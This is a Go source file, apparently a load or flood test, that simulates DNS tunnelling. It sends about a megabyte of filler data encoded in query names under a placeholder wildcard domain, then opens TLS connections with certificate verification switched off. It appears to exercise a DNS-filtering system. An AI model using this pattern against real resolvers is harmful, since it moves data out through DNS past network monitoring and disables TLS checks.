package flood

import (
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"strings"
	"time"

	"github.com/miekg/dns"
)

// tunnel is 1 MiB in names below a wildcard. Blast asks upstream for a name when it is
// connected to, so each is.
var tunnel = Flood{Times: 1<<20/carries + 1, Once: carry, Few: func() error {
	c, err := carryName("control.many.example")
	if c != nil {
		_ = c.Close()
	}
	return err
}}

// carries is how many bytes a name carries besides its number.
const carries = 180

func carry(n int) (net.Conn, error) {
	part := strings.Repeat("x", carries/3)
	return carryName(fmt.Sprintf("%d.%s.%s.%s.wild.example", n, part, part, part))
}

func carryName(name string) (net.Conn, error) {
	r, err := exchange("udp", dns.Fqdn(name), patience)
	if err != nil {
		return nil, err
	}
	if len(r.Answer) != 1 || strings.Contains(r.String(), "\t198.19.") {
		return nil, errors.New("refused")
	}
	a, ok := r.Answer[0].(*dns.A)
	if !ok {
		return nil, errors.New("no address")
	}
	c, err := net.DialTimeout("tcp", net.JoinHostPort(a.A.String(), "443"), patience)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(patience))
	return c, tls.Client(c, &tls.Config{ServerName: name, InsecureSkipVerify: true}).Handshake() //nolint:gosec // whose it is matters not here
}
